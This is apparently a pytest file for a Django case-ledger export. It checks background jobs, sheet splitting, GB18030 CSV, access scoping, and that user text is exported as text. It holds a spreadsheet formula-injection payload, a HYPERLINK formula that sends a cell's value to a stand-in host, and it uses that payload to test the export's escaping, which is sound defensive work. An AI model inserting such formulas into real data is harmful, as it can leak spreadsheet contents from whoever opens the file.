"""The ledger export (issue 11, item 7; issue 13, item 2): large exports run in the worker with progress and a
download link, split across sheets past the sheet limit, CSV in GB18030, only for the requester and in-scope
coordinators, and user text always arrives as text."""

import csv
import io
import re
import zipfile

import pytest
from django.utils import timezone
from python_calamine import CalamineWorkbook

from tests.web.test_office_pages import cases  # noqa: F401 — the four cases of the office pages' tests
from whistle.cases import services
from whistle.core.models import RuleParameter
from whistle.web.exports import IMMEDIATE_MAX_PARAM, run_pending_exports
from whistle.web.models import LedgerExport

FORMULA = '=HYPERLINK("http://x?"&B2,"点我")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"  # generated files land here, not in var/


@pytest.fixture
def background(heze):
    """Every export with more than one row goes to the worker."""
    RuleParameter.objects.filter(key=IMMEDIATE_MAX_PARAM).update(value=1)
    from whistle.core import rules

    rules.clear_cache()


def _start(client, fmt="xlsx", **query):
    query = {"view": "all", **query}
    response = client.post("/ledger.xlsx?" + "&".join(f"{k}={v}" for k, v in query.items()), {"format": fmt})
    assert response.status_code == 302, response.content[:300]
    match = re.fullmatch(r"/ledger/exports/(\d+)", response["Location"])
    assert match, response["Location"]
    return response["Location"]


def _download(client, status_url):
    page = client.get(status_url, HTTP_HX_REQUEST="true").content.decode()
    link = re.search(r'id="export-download" href="([^"]+)"', page).group(1)
    response = client.get(link)
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


def test_large_ledger_export_runs_in_the_worker_with_progress_and_a_download_link(heze, signed_in, cases, background):
    client = signed_in(heze.users.city_office)
    status_url = _start(client)
    page = client.get(status_url).content.decode()
    assert "排队中" in page and 'hx-trigger="every 2s"' in page  # the page polls while the worker has not run
    assert re.search(r'<span class="rows-done">0</span> / <span class="rows-total">4</span>', page)
    assert "export-download" not in page

    assert run_pending_exports(timezone.now()) == {"exports_done": 1, "exports_failed": 0}

    polled = client.get(status_url, HTTP_HX_REQUEST="true").content.decode()
    assert "已完成" in polled and "hx-trigger" not in polled  # polling stops once the file is ready
    assert re.search(r'<span class="rows-done">4</span> / <span class="rows-total">4</span>', polled)
    response, body = _download(client, status_url)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response["Content-Disposition"]
    book = CalamineWorkbook.from_filelike(io.BytesIO(body))
    assert book.sheet_names == ["台账"]
    rows = book.get_sheet_by_name("台账").to_python()
    assert rows[0][:2] == ["工单编号", "标题"]
    assert {r[0] for r in rows[1:]} == {c.number for c in cases.values()}
    assert run_pending_exports(timezone.now()) == {"exports_done": 0, "exports_failed": 0}  # nothing is written twice


def test_background_export_is_scoped_to_the_requester_like_the_ledger_page(heze, signed_in, cases, background):
    client = signed_in(heze.users.cao_office)
    status_url = _start(client)
    run_pending_exports(timezone.now())
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(_download(client, status_url)[1])).get_sheet_by_index(0).to_python()
    )
    assert {r[0] for r in rows[1:]} == {cases[k].number for k in ("routed", "unrouted", "closed")}  # not 单县's


def test_export_past_the_sheet_limit_continues_on_numbered_sheets(heze, signed_in, cases, background, settings):
    settings.WHISTLE_SHEET_MAX_ROWS = 3  # a header and two cases per sheet, as Excel's 1,048,576 would be
    client = signed_in(heze.users.city_office)
    status_url = _start(client)
    run_pending_exports(timezone.now())
    book = CalamineWorkbook.from_filelike(io.BytesIO(_download(client, status_url)[1]))
    assert book.sheet_names == ["台账-1", "台账-2"]
    parts = [book.get_sheet_by_name(name).to_python() for name in book.sheet_names]
    assert all(part[0][0] == "工单编号" and len(part) == 3 for part in parts)
    assert [r[0] for part in parts for r in part[1:]] == sorted(c.number for c in cases.values())  # every row, once


def test_csv_export_is_gb18030_for_excel(heze, signed_in, cases, background):
    client = signed_in(heze.users.city_office)
    status_url = _start(client, fmt="csv")
    run_pending_exports(timezone.now())
    response, body = _download(client, status_url)
    assert "gb18030" in response["Content-Type"] and ".csv" in response["Content-Disposition"]
    with pytest.raises(UnicodeDecodeError):
        body.decode("utf-8")  # not UTF-8: what Excel on a Chinese Windows expects
    rows = list(csv.reader(io.StringIO(body.decode("gb18030"))))
    assert rows[0][:4] == ["工单编号", "标题", "诉求内容", "诉求类型"]
    assert {r[0] for r in rows[1:]} == {c.number for c in cases.values()}
    assert "厂区门口道路破损" in {r[1] for r in rows[1:]}


def test_small_export_is_immediate_in_either_format(heze, signed_in, cases):
    client = signed_in(heze.users.city_office)
    response = client.post("/ledger.xlsx?view=all", {"format": "csv"})
    assert response.status_code == 200 and not LedgerExport.objects.exists()
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("gb18030"))))
    assert len(rows) == 5


def test_large_export_by_the_old_link_points_to_the_background_export(heze, signed_in, cases, background):
    response = signed_in(heze.users.city_office).get("/ledger.xlsx", {"view": "all"})
    assert response.status_code == 302 and response["Location"].startswith("/ledger?")
    assert not LedgerExport.objects.exists()  # a GET starts nothing


def test_only_the_requester_and_coordinators_over_them_can_open_an_export(heze, signed_in, cases, background):
    client = signed_in(heze.users.cao_zjj)  # a handler of 曹县住建局
    status_url = _start(client)
    run_pending_exports(timezone.now())
    file_url = status_url + "/file"
    assert client.get(file_url).status_code == 200
    for outsider in ("shan_office", "city_leader", "cao_scjg"):  # another county's office, a leader, another unit
        other = signed_in(getattr(heze.users, outsider))
        assert (other.get(status_url).status_code, other.get(file_url).status_code) == (404, 404), outsider
    for coordinator in ("cao_office", "city_office"):  # the county's office and the city's cover the handler
        assert signed_in(getattr(heze.users, coordinator)).get(file_url).status_code == 200, coordinator
    assert signed_in(heze.users.cao_office).get("/ledger/exports/999999").status_code == 404


def test_export_writes_user_text_as_text(heze, signed_in, cases):
    case, _ = services.case_submit(
        heze.actor("ent_cao"), kind="help", category="construction-permit", title=FORMULA, description="标题是一个公式"
    )
    response = signed_in(heze.users.city_office).get("/ledger.xlsx", {"view": "all"})
    body = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell of the sheet is a formula
    rows = CalamineWorkbook.from_filelike(io.BytesIO(body)).get_sheet_by_index(0).to_python()
    assert {r[0]: r[1] for r in rows[1:]}[case.number] == FORMULA  # the title, as typed, as text

    csv_response = signed_in(heze.users.city_office).post("/ledger.xlsx?view=all", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(csv_response.streaming_content).decode("gb18030"))))
    assert {r[0]: r[1] for r in rows[1:]}[case.number] == "'" + FORMULA  # Excel shows it as text


def _redone_case(heze):
    """A case replied, found unresolved at the follow-up, and replied again: its 办理结果 is the second reply."""
    cao, handler = heze.actor("ent_cao"), heze.actor("cao_zjj")
    case, _ = services.case_submit(
        cao, kind="help", category="construction-permit", description="=1+1 厂区变压器容量不足"
    )
    for action, payload in [("accept", {}), ("contact", {}), ("reply", {"content": "已联系供电公司"})]:
        services.case_transition(handler, case.number, action, payload)
    services.case_transition(cao, case.number, "follow_up", {"resolution": "unresolved", "satisfaction": "unsatisfied"})
    services.case_transition(handler, case.number, "reply", {"content": "-已更换800千伏安变压器"})
    return case


def test_ledger_export_carries_the_request_text_and_the_lead_units_latest_reply_as_text(heze, signed_in, cases):
    redone = _redone_case(heze)
    client = signed_in(heze.users.city_office)
    body = b"".join(client.get("/ledger.xlsx", {"view": "all"}).streaming_content)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(body)).get_sheet_by_index(0).to_python()
    header = rows[0]
    by_number = {r[0]: dict(zip(header, r)) for r in rows[1:]}
    assert by_number[redone.number]["诉求内容"] == "=1+1 厂区变压器容量不足"  # as typed, as text
    assert by_number[redone.number]["办理结果"] == "-已更换800千伏安变压器"  # the latest reply, not the first
    assert by_number[cases["closed"].number]["办理结果"] == "已答复"
    assert by_number[cases["routed"].number]["办理结果"] == ""  # not replied yet
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()

    response = client.post("/ledger.xlsx?view=all", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("gb18030"))))
    by_number = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert by_number[redone.number]["诉求内容"] == "'=1+1 厂区变压器容量不足"  # Excel shows it as text
    assert by_number[redone.number]["办理结果"] == "'-已更换800千伏安变压器"
    assert by_number[cases["shan"].number]["诉求内容"] == "单县厂房验收咨询"
